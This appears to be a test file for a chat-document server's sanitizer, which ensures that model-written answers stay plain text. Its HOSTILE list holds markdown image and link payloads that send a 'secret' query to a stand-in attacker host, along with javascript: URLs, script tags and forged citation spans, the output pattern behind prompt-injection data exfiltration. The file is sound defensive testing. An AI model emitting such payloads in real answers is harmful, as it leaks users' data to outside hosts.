"""What a model writes is plain text: no image is fetched by it, no link followed, no markup shown, no marker forged."""

import re
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chatdoc_server.answering.model.inert import Inert, addresses
from chatdoc_server.answering.model.markers import MarkerParser

KNOWN = "https://known.example/report?year=2022"
STOLEN = "https://evil.example/?q=secret"
LIVE = {"image", "link_open", "html_inline", "html_block"}


def made(text: str, *cuts: int) -> str:
    inert = Inert(addresses([f"See {KNOWN}, please."]))
    ends = [0, *sorted(cut % (len(text) + 1) for cut in cuts), len(text)]
    return "".join(inert.feed(text[a:b]) for a, b in pairwise(ends)) + inert.close()


def live(text: str) -> set[str]:
    """What a renderer of Markdown that lets HTML pass makes of a text, once markers are taken out of it."""
    parser = MarkerParser()
    text = "".join(part for part in [*parser.feed(text), *parser.close()] if isinstance(part, str))
    markdown = MarkdownIt("gfm-like", {"html": True, "linkify": False})
    tokens = markdown.parse(text)
    return {one.type for token in tokens for one in [token, *(token.children or [])]} & LIVE


HOSTILE = [
    f"![p]({STOLEN})",
    f"![p]( {STOLEN} )",
    f"[read]({STOLEN})",
    f"![p][1]\n\n[1]: {STOLEN}",
    f"![p][a]\n\n[a]: {STOLEN}",
    f"![a]\n\n[a]:{KNOWN}",
    f"![p]({KNOWN})",
    "![p](//evil.example/x)",
    "![p](/api/v2/users)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,x)",
    f"<img src={STOLEN}>",
    f"<a href='{STOLEN}'>x</a>",
    f"<{STOLEN}>",
    "<script>alert(1)</script>",
    "<!-- hidden -->",
    '[<span data-index="0">1</span>]',
    f"[![p]({STOLEN})]({STOLEN})",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_it_lives_however_it_is_cut(text: str) -> None:
    for cut in range(len(text)):
        shown = made(text, cut)
        assert not live(shown)
        assert "evil.example/?" not in shown
        assert "<span" not in shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Sales were $4,000 [1]. They rose [2][3].", None),
        ("It is stated in [1]: sales rose [12].", None),
        ("If a < b, or 3 <4, then c > d.", None),
        (f"See {KNOWN}.", None),
        (f"See {KNOWN} and www.other.example.", f"See {KNOWN} and …."),
        (f"See {KNOWN}&more=secret now", "See … now"),
        ("Breath with www and https, http: all of it.", None),
        ("他说[1]。然后[2]，https://evil.example/x。好", "他说[1]。然后[2]，…。好"),
        ("- [ ] open\n- [x] done", None),
    ],
)
def test_all_else_stays(text: str, shown: str | None) -> None:
    for cut in range(len(text)):
        assert made(text, cut) == (text if shown is None else shown)


PIECES = st.sampled_from(
    [
        *"<>[]()!:/hwtps.f 1a\n",
        "http",
        "://",
        "www.",
        "evil.example",
        "![",
        "](",
        "]:",
        "<img ",
        KNOWN,
        STOLEN,
        "[1]",
        "é",
    ]
)


@example("<h1>", [2])
@example(f"<{KNOWN}>", [2])
@given(st.lists(PIECES, max_size=14).map("".join), st.lists(st.integers(0, 200), max_size=5))
def test_how_it_is_cut_never_matters_and_nothing_unknown_is_left(text: str, cuts: list[int]) -> None:
    shown = made(text, *cuts)
    assert shown == made(text)
    assert "image" not in live(shown)
    assert "html_inline" not in live(shown)
    left = re.findall(r"(?:https?|ftp)://[^\s<>‹\"'`|\\^{}\[\]é]*", shown, re.IGNORECASE)
    assert all(one.rstrip(".,;:!?)*_~") == KNOWN for one in left)


def test_an_address_without_end_is_not_kept() -> None:
    inert = Inert(())
    assert inert.feed("See https://") == "See "
    for _ in range(100):
        assert inert.feed("a" * 1000) == ""
    assert inert.feed(" there") + inert.close() == "… there"
